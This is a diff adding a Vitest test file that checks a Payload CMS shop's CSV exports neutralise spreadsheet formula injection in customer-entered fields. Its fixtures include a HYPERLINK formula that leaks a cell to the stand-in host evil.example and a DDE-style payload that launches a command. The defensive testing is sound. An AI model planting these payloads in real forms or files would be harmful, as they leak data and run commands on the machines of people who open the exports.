@@ -1,0 +1,173 @@
+import { parse } from 'csv-parse/sync'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+
+import { sendContactMessage } from '@/lib/contact'
+import { joinEmailList } from '@/lib/emailCaptures'
+import { submitOrder } from '@/lib/orders'
+
+import { validOrderForm } from '../helpers/orders'
+import { adminAuthHeader, rest, startPayload, type TestPayload } from '../helpers/payload'
+import { startSmtp, type TestSmtp } from '../helpers/smtp'
+
+const ADMIN = { email: 'owner@example.com', password: 'correct-horse-battery' }
+
+/** What a spreadsheet would run as a formula, as customers can type it into the site's forms. */
+const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your discount")'
+const PLUS = '+1+1'
+const MINUS = '-2+3'
+const AT_SUM = '@SUM(1+9)*cmd|\' /C calc\'!A0'
+
+/** A cell a spreadsheet shows as typed: nothing at its start makes it a formula. */
+const isNeutral = (cell: string) => !/^[=+\-@\t\r]/.test(cell)
+/** The text that was stored, read back from a neutral cell. */
+const storedText = (cell: string) => (/^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell)
+
+type Row = Record<string, string>
+
+/**
+ * Every CSV export writes customers' text so that a spreadsheet shows it and never runs it; JSON
+ * exports keep the stored values. Records are stored through the site's own forms' services, so
+ * everything in them passed the site's validation.
+ */
+describe('exports hold no live spreadsheet formula', () => {
+  let app: TestPayload
+  let smtp: TestSmtp
+  let admin: Record<string, string>
+
+  /** The records as stored, by collection, for comparing with what the export wrote. */
+  const stored: Record<string, Array<Record<string, unknown>>> = {}
+
+  beforeAll(async () => {
+    // The orders', sign-ups' and messages' e-mails go to a test SMTP server, not to files under data/.
+    smtp = await startSmtp()
+    app = await startPayload({ ADMIN_EMAIL: ADMIN.email, ADMIN_PASSWORD: ADMIN.password, SMTP_HOST: '127.0.0.1', SMTP_PORT: String(smtp.port), SMTP_SECURE: 'false' })
+    const { payload } = app
+
+    const orders: Array<Record<string, string>> = [
+      { fullName: HYPERLINK, email: '+1+1@example.com', phone: '+1 (313) 555-0100', instagram: '@dana', address: MINUS + ' Main St', notes: `${AT_SUM}\nsecond line` },
+      { fullName: PLUS, email: '-2+3@example.com', phone: '+1 313 555 0101', instagram: '=cmd', address: '@home, 1 Main St', notes: '=1+1' },
+      { fullName: MINUS, email: 'plain@example.com', phone: '313 555 0102', instagram: '-minus', address: HYPERLINK, notes: PLUS },
+      { fullName: AT_SUM, email: 'at@example.com', phone: '(313) 555-0103', instagram: '+plus', address: '+1 Main St', notes: MINUS },
+    ]
+    for (const fields of orders) {
+      const placed = await submitOrder(payload, { ...validOrderForm, ...fields })
+      if (placed.status !== 'success') throw new Error(`order refused: ${JSON.stringify(placed)}`)
+    }
+
+    const subscribers = [
+      { name: HYPERLINK, email: '+1+1@example.com' },
+      { name: PLUS, email: '-2+3@example.com' },
+      { name: MINUS, email: 'minus@example.com' },
+      { name: AT_SUM, email: 'at@example.com' },
+    ]
+    for (const subscriber of subscribers) {
+      const joined = await joinEmailList(payload, subscriber)
+      if (joined.status !== 'joined') throw new Error(`sign-up refused: ${JSON.stringify(joined)}`)
+    }
+
+    const contactMessages = [
+      { name: HYPERLINK, email: '+1+1@example.com', phone: '+1 313 555 0100', subject: AT_SUM, message: `${PLUS}\nHello` },
+      { name: PLUS, email: '-2+3@example.com', phone: '', subject: HYPERLINK, message: MINUS },
+      { name: MINUS, email: 'minus@example.com', phone: '+13135550199', subject: '=1+1', message: HYPERLINK },
+      { name: AT_SUM, email: 'at@example.com', phone: '', subject: '-', message: AT_SUM },
+    ]
+    for (const message of contactMessages) {
+      const sent = await sendContactMessage(payload, message)
+      if (!sent.ok) throw new Error(`message refused: ${JSON.stringify(sent)}`)
+    }
+
+    // The forms trim their fields, so only the seller, editing in the admin, can store a leading
+    // tab or carriage return.
+    const [firstMessage] = (await payload.find({ collection: 'contact-messages', sort: 'createdAt', limit: 1 })).docs
+    await payload.update({ collection: 'contact-messages', id: firstMessage.id, data: { subject: '\t=1+1', message: '\r=2+2' } })
+
+    for (const slug of ['orders', 'email-captures', 'contact-messages'] as const) {
+      stored[slug] = (await payload.find({ collection: slug, limit: 100, depth: 0 })).docs as unknown as Array<Record<string, unknown>>
+    }
+    expect(stored.orders).toHaveLength(orders.length)
+    expect(stored['email-captures']).toHaveLength(subscribers.length)
+    expect(stored['contact-messages']).toHaveLength(contactMessages.length)
+
+    admin = await adminAuthHeader(app.config, ADMIN.email, ADMIN.password)
+  })
+
+  afterAll(async () => {
+    await app?.cleanup()
+    await smtp?.close()
+  })
+
+  /** The admin's Export → Download: the same request its button sends, as the logged-in seller. */
+  async function download(collectionSlug: string, format: 'csv' | 'json') {
+    const { status, json } = await rest(app.config, 'POST', '/exports/download', {
+      headers: admin,
+      body: { data: { collectionSlug, format, name: `test-${collectionSlug}` } },
+    })
+    expect(status).toBe(200)
+    return json as unknown
+  }
+
+  const parseCsv = (text: string): Row[] => parse(text, { bom: true, columns: true, skip_empty_lines: true })
+
+  /** The text fields customers fill in, per collection: each holds formula-looking text above. */
+  const TYPED_FIELDS = {
+    orders: ['fullName', 'email', 'phone', 'instagram', 'address', 'notes'],
+    'email-captures': ['name', 'email'],
+    'contact-messages': ['name', 'email', 'phone', 'subject', 'message'],
+  } as const
+
+  describe.each(Object.keys(TYPED_FIELDS) as Array<keyof typeof TYPED_FIELDS>)('%s', (slug) => {
+    it('CSV: every cell is neutral, and the stored text is otherwise unchanged', async () => {
+      const rows = parseCsv(String(await download(slug, 'csv')))
+      expect(rows).toHaveLength(stored[slug].length)
+
+      for (const row of rows) {
+        for (const [column, cell] of Object.entries(row)) expect(isNeutral(cell), `${column}: ${JSON.stringify(cell)}`).toBe(true)
+
+        const record = stored[slug].find((doc) => String(doc.id) === row.id)
+        expect(record, `row ${row.id}`).toBeDefined()
+        for (const [column, cell] of Object.entries(row)) {
+          const value = record?.[column]
+          if (typeof value === 'string') expect(storedText(cell), column).toBe(value)
+        }
+      }
+
+      // The test is only as good as its data: each typed field held at least one formula.
+      for (const field of TYPED_FIELDS[slug]) {
+        const neutralised = rows.filter((row) => /^'[=+\-@]/.test(row[field] ?? ''))
+        expect(neutralised.length, field).toBeGreaterThan(0)
+      }
+    })
+
+    it('JSON keeps the stored values as they are', async () => {
+      const docs = (await download(slug, 'json')) as Array<Record<string, unknown>>
+      expect(docs).toHaveLength(stored[slug].length)
+      for (const doc of docs) {
+        const record = stored[slug].find((candidate) => candidate.id === doc.id)
+        for (const field of TYPED_FIELDS[slug]) expect(doc[field], field).toEqual(record?.[field])
+      }
+      expect(JSON.stringify(docs)).toContain(JSON.stringify(HYPERLINK))
+    })
+  })
+
+  it('also for an export the seller saves in the admin, and for a leading tab or carriage return', async () => {
+    const user = (await app.payload.find({ collection: 'users', limit: 1 })).docs[0]
+    const saved = await app.payload.create({
+      collection: 'exports',
+      data: { collectionSlug: 'contact-messages', format: 'csv', name: `saved-${Date.now()}` },
+      user: { ...user, collection: 'users' },
+      overrideAccess: false,
+    })
+    try {
+      const file = await rest(app.config, 'GET', `/exports/file/${saved.filename}`, { headers: admin })
+      expect(file.status).toBe(200)
+      const rows = parseCsv(String(file.json))
+      expect(rows).toHaveLength(stored['contact-messages'].length)
+      for (const row of rows) for (const cell of Object.values(row)) expect(isNeutral(cell), JSON.stringify(cell)).toBe(true)
+      expect(rows.map((row) => row.subject)).toContain("'\t=1+1")
+      expect(rows.map((row) => row.message)).toContain("'\r=2+2")
+      expect(rows.map((row) => row.message)).toContain(`'${HYPERLINK}`)
+    } finally {
+      await app.payload.delete({ collection: 'exports', id: saved.id })
+    }
+  })
+})
